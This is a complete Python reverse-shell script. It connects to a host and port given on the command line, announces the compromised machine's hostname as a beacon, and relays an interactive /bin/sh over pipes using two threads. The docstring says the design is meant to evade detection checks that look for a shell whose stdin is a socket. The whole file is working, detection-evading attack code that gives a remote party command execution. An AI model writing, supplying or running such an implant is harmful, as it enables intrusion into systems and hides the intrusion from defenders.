"""A reverse shell without a pty or dup2 tricks: /bin/sh on pipes, relayed to a socket by two threads.

This is the shape that evades "is a shell's stdin a socket?" checks: the shell's stdio are pipes, and
only this Python process holds the connection.
"""

import socket
import subprocess
import sys
import threading

HOST, PORT = sys.argv[1], int(sys.argv[2])

sock = socket.create_connection((HOST, PORT), timeout=10)
sock.settimeout(None)
sock.sendall(f"beacon {socket.gethostname()}\n".encode())  # the implant announces itself
shell = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
assert shell.stdin is not None and shell.stdout is not None


def commands() -> None:
    assert shell.stdin is not None
    while data := sock.recv(4096):
        shell.stdin.write(data)
        shell.stdin.flush()
    shell.stdin.close()


threading.Thread(target=commands, daemon=True).start()
while out := shell.stdout.read1(4096):
    sock.sendall(out)
shell.wait()
sock.close()
